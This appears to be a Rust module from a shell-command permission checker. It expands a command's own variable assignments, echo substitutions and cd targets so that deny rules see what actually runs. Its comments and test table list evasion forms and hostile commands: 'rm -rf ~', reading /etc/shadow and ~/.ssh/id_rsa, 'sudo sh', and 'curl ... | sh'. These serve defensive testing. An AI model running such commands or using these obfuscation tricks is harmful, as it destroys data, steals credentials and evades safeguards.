//! Values a command gives its own variables, and the directory it moves to, substituted where
//! it uses them.
//!
//! Upstream never expands `$VAR`, so `X=rm; $X -rf ~`, `a=r b=m; $a$b -rf ~`,
//! `c=/etc/sha; cat ${c}dow`, `S=sudo; $S sh` and `$(echo rm) -rf ~` pass any rule written for
//! what they run. The environment a command inherits is unknown here, but what the command
//! assigns itself is plain text: a segment made only of `NAME=value` words (or `export` of them)
//! sets NAME for the segments after it. The restrictive stage reads the raw command once more
//! with those values substituted for `$NAME` and `${NAME}` outside single quotes, `$SHELL` read as
//! `sh`, and `$(echo WORDS)` / `` `echo WORDS` `` / `$(printf WORDS)` replaced by their words.
//! A value that is itself computed (`X=$(date)`) is left alone.
//!
//! In the same reading, after `cd DIR` to an absolute or home directory, the relative operands of
//! the later segments are read from DIR: `cd /etc && cat shadow` reads `cat /etc/shadow`.

use alloc::string::String;
use alloc::vec::Vec;

use crate::invariant::or_closed;

use super::quote_word;
use super::split::{split, SplitDialect};
use super::tokenize::{find_either, redirection_len, tokenize, Dialect, Tokens};
use super::words::{assignment_name, is_name};

/// The raw command with its own assignments and echo substitutions substituted, or `None` when
/// there is nothing to substitute.
pub(crate) fn substituted(raw: &str) -> Option<String> {
    let b = raw.as_bytes();
    let vars = if find_either(b, 0, b'$', b'`') < b.len() {
        with_variables(raw)
    } else {
        None
    };
    let text = vars.as_deref().unwrap_or(raw);
    match in_directory(text) {
        Some(moved) => Some(moved),
        None => vars,
    }
}

/// `raw` with its own assignments and echo substitutions substituted, if it has any.
fn with_variables(raw: &str) -> Option<String> {
    let mut segs = Vec::new();
    split(raw, SplitDialect::Posix, &mut segs);
    let mut toks = Tokens::default();
    let mut vars: Vec<(String, String)> = Vec::new();
    let mut out = String::with_capacity(raw.len());
    let mut changed = false;
    let mut at = 0;
    for seg in &segs {
        // The text before this segment (operators, spaces) is copied as it is.
        out.push_str(or_closed(raw.get(at..seg.start), raw));
        let text = or_closed(raw.get(seg.clone()), raw);
        changed |= substitute(text, &vars, &mut out);
        at = seg.end;
        let mut set = Vec::new();
        assignments(text, &vars, &mut toks, &mut |name, value| {
            set.push((name.into(), value))
        });
        for (name, value) in set {
            vars.retain(|(n, _)| *n != name);
            vars.push((name, value));
        }
    }
    out.push_str(or_closed(raw.get(at..), raw));
    changed.then_some(out)
}

/// `text` with the relative operands of the segments after a `cd` to an absolute or home
/// directory read from that directory, if there are any.
fn in_directory(text: &str) -> Option<String> {
    if !text.contains("cd ") {
        return None;
    }
    let mut segs = Vec::new();
    split(text, SplitDialect::Posix, &mut segs);
    let mut toks = Tokens::default();
    let mut dir: Option<String> = None;
    let mut out = String::with_capacity(text.len() + 16);
    let mut changed = false;
    let mut at = 0;
    for seg in &segs {
        out.push_str(or_closed(text.get(at..seg.start), text));
        at = seg.end;
        let s = or_closed(text.get(seg.clone()), text);
        tokenize(s, Dialect::Posix, &mut toks);
        if toks.value(0) == "cd" && toks.len() == 2 {
            let d = toks.value(1);
            dir =
                (d.starts_with('/') || d.starts_with('~')).then(|| d.trim_end_matches('/').into());
            out.push_str(s);
            continue;
        }
        match &dir {
            Some(d) if toks.len() > 1 => {
                changed |= rebase(s, &toks, d, &mut out);
            }
            _ => out.push_str(s),
        }
    }
    out.push_str(or_closed(text.get(at..), text));
    changed.then_some(out)
}

/// Appends segment `s` (words `t`) with its relative operands joined onto `dir`; true when any.
fn rebase(s: &str, t: &Tokens, dir: &str, out: &mut String) -> bool {
    let mut changed = false;
    for k in 0..t.len() {
        if k > 0 {
            out.push(' ');
        }
        let w = t.value(k);
        let raw = or_closed(s.get(t.raw(k)), s);
        let relative = k > 0
            && redirection_len(raw) == 0
            && !w.is_empty()
            && !w.starts_with(['-', '/', '~', '$', '.', '+'])
            && !w.contains("://")
            && !w.contains('=');
        if relative {
            let mut joined = String::from(dir);
            joined.push('/');
            joined.push_str(w);
            // A leading `~` stays bare: quoted, it would be a literal name.
            match joined.strip_prefix('~') {
                Some(rest) if !rest.contains(['\'', ' ', '"', '\\', '$', '`']) => {
                    out.push_str(&joined)
                }
                _ => quote_word(&joined, out),
            }
            changed = true;
        } else {
            out.push_str(raw);
        }
    }
    changed
}

/// Calls `set` with each `NAME=value` of a segment made only of assignments (after an optional
/// `export`/`local`/`declare`/`readonly`/`typeset`), its value with known variables substituted.
fn assignments(
    text: &str,
    vars: &[(String, String)],
    toks: &mut Tokens,
    set: &mut dyn FnMut(&str, String),
) {
    // Every word of such a segment holds a `=`.
    if !text.contains('=') {
        return;
    }
    tokenize(text, Dialect::Posix, toks);
    let from = usize::from(matches!(
        toks.value(0),
        "export" | "local" | "declare" | "readonly" | "typeset"
    ));
    if toks.len() <= from || !(from..toks.len()).all(|k| assignment_name(toks.value(k)).is_some()) {
        return;
    }
    for k in from..toks.len() {
        let word = toks.value(k);
        let Some(name) = assignment_name(word) else {
            continue;
        };
        let value = word.get(name.len() + 1..).unwrap_or("");
        let raw = or_closed(text.get(toks.raw(k)), text);
        if raw.contains("$(") || raw.contains('`') {
            continue;
        }
        let mut v = String::new();
        substitute(value, vars, &mut v);
        set(name, v);
    }
}

/// Appends `text` to `out` with `$NAME`/`${NAME}` of `vars` (and `$SHELL`) replaced outside
/// single quotes, and echo/printf substitutions replaced by their words; true when anything was.
///
/// Bytes that open nothing are copied a run at a time: the four that do are ASCII, so a run
/// ends on a character boundary.
fn substitute(text: &str, vars: &[(String, String)], out: &mut String) -> bool {
    let b = text.as_bytes();
    let mut changed = false;
    let mut k = 0;
    while let Some(&c) = b.get(k) {
        match c {
            b'\'' => k = single_quoted(text, k, out),
            b'\\' => {
                // The escape and the whole character it escapes (a multi-byte one included), so
                // the copy below never starts inside a character.
                let escaped = text
                    .get(k + 1..)
                    .and_then(|s| s.chars().next())
                    .map_or(0, char::len_utf8);
                out.push_str(or_closed(text.get(k..k + 1 + escaped), text));
                k += 1 + escaped;
            }
            b'$' | b'`' => match reference(text, k, vars) {
                Some((len, value)) => {
                    out.push_str(&value);
                    changed = true;
                    k += len;
                }
                None => {
                    out.push(char::from(c));
                    k += 1;
                }
            },
            _ => {
                let rest = b.get(k..).unwrap_or_default();
                let run = rest
                    .iter()
                    .position(|c| matches!(c, b'\'' | b'\\' | b'$' | b'`'))
                    .unwrap_or(rest.len());
                out.push_str(or_closed(text.get(k..k + run), text));
                k += run;
            }
        }
    }
    changed
}

/// Appends the single-quoted text that starts at byte `k` of `text` (the quotes included, or to
/// the end when it is not closed); returns the byte after it. Inside the quotes each byte is
/// appended as the character of that code point, as this reading always did.
fn single_quoted(text: &str, k: usize, out: &mut String) -> usize {
    out.push('\'');
    let body = text.as_bytes().get(k + 1..).unwrap_or_default();
    let len = body
        .iter()
        .position(|&c| c == b'\'')
        .map_or(body.len(), |at| at + 1);
    match text.get(k + 1..k + 1 + len) {
        Some(quoted) if quoted.is_ascii() => out.push_str(quoted),
        _ => {
            for &c in body.get(..len).unwrap_or_default() {
                out.push(char::from(c));
            }
        }
    }
    k + 1 + len
}

/// The reference starting at byte `k` of `text` (`$NAME`, `${NAME}`, `$(echo …)`, `` `echo …` ``)
/// if its value is known: its length and value.
fn reference(text: &str, k: usize, vars: &[(String, String)]) -> Option<(usize, String)> {
    let rest = text.get(k..)?;
    if let Some(inner) = rest.strip_prefix("$(") {
        let end = inner.find(')')?;
        let words = echoed(inner.get(..end)?)?;
        return Some((end + 3, words));
    }
    if let Some(inner) = rest.strip_prefix('`') {
        let end = inner.find('`')?;
        let words = echoed(inner.get(..end)?)?;
        return Some((end + 2, words));
    }
    let (name, len) = if let Some(inner) = rest.strip_prefix("${") {
        let end = inner.find('}')?;
        (inner.get(..end)?, end + 3)
    } else {
        let body = rest.get(1..)?;
        let end = body
            .find(|c: char| !(c.is_ascii_alphanumeric() || c == '_'))
            .unwrap_or(body.len());
        (body.get(..end)?, end + 1)
    };
    if !is_name(name) {
        return None;
    }
    match vars.iter().rev().find(|(n, _)| n == name) {
        Some((_, v)) => Some((len, v.clone())),
        None if name == "SHELL" => Some((len, "sh".into())),
        None => None,
    }
}

/// The words `echo WORDS` or `printf WORDS` prints, when that is all the text runs.
fn echoed(cmd: &str) -> Option<String> {
    if cmd.contains(['|', ';', '&', '$', '`', '(', '<', '>', '\n']) {
        return None;
    }
    let mut toks = Tokens::default();
    tokenize(cmd, Dialect::Posix, &mut toks);
    let head = toks.value(0);
    if head != "echo" && head != "printf" {
        return None;
    }
    let mut out = String::new();
    let from = (1..toks.len())
        .find(|&k| !(head == "echo" && matches!(toks.value(k), "-n" | "-e" | "-E")))
        .unwrap_or(toks.len());
    for k in from..toks.len() {
        if k > from {
            out.push(' ');
        }
        out.push_str(toks.value(k));
    }
    (!out.is_empty()).then_some(out)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn table() {
        let cases: &[(&str, Option<&str>)] = &[
            ("X=rm; $X -rf ~", Some("X=rm; rm -rf ~")),
            ("a=r b=m; $a$b -rf ~", Some("a=r b=m; rm -rf ~")),
            (
                "c=/etc/sha; cat ${c}dow",
                Some("c=/etc/sha; cat /etc/shadow"),
            ),
            ("S=sudo; $S sh", Some("S=sudo; sudo sh")),
            (
                "f=~/.bash''rc; echo x >> $f",
                Some("f=~/.bash''rc; echo x >> ~/.bashrc"),
            ),
            (
                "export D=/etc; cat $D/shadow",
                Some("export D=/etc; cat /etc/shadow"),
            ),
            (
                "u=https://x/s; curl -s $u | $SHELL",
                Some("u=https://x/s; curl -s https://x/s | sh"),
            ),
            ("$(echo rm) -rf ~", Some("rm -rf ~")),
            ("`echo rm` -rf $HOME", Some("rm -rf $HOME")),
            ("echo '$X'; X=1", None),
            ("T=$(mktemp); rm $T", None),
            ("echo $HOME", None),
            ("git status", None),
            ("cd /etc && cat shadow", Some("cd /etc && cat /etc/shadow")),
            (
                "cd ~/.ssh && cat id_rsa",
                Some("cd ~/.ssh && cat ~/.ssh/id_rsa"),
            ),
            ("cd src && cat x", None),
            ("cd /tmp && ls -la", None),
        ];
        for (cmd, want) in cases {
            assert_eq!(substituted(cmd).as_deref(), *want, "{cmd:?}");
        }
    }
}
